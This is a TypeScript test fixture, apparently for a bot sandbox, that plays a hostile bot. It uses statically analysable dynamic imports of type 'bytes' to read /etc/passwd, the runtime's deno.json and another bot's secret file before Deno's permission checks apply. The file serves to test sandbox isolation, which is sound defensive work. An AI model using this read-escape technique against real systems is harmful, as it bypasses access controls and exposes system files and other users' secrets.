// Hostile bot fixture for tests/sandbox/escape_test.ts: reads files through import() with { type: "bytes" }.
// Prints one JSON line { escape, target, ok, detail } per target: ok means the escape worked.
// The specifiers are string literals on purpose: Deno loads statically analysable dynamic imports
// while building the module graph, before any permission check (the weaker level's read hole).
const report = (target: string, ok: boolean, detail: unknown) =>
  console.log(
    JSON.stringify({ escape: "import-bytes", target, ok, detail: String(detail).slice(0, 400) }),
  );
const attempts: [string, () => Promise<unknown>][] = [
  [
    "passwd",
    () =>
      import("/etc/passwd", { with: { type: "bytes" } }).then((m) =>
        new TextDecoder().decode(m.default)
      ),
  ],
  [
    "runtime",
    () =>
      import("../../../../deno.json", { with: { type: "bytes" } }).then((m) =>
        new TextDecoder().decode(m.default)
      ),
  ],
  [
    "other-bot",
    () =>
      import("../victim/secret.txt", { with: { type: "bytes" } }).then((m) =>
        new TextDecoder().decode(m.default)
      ),
  ],
];
for (const [target, attempt] of attempts) {
  try {
    report(target, true, await attempt());
  } catch (error) {
    report(target, false, error);
  }
}
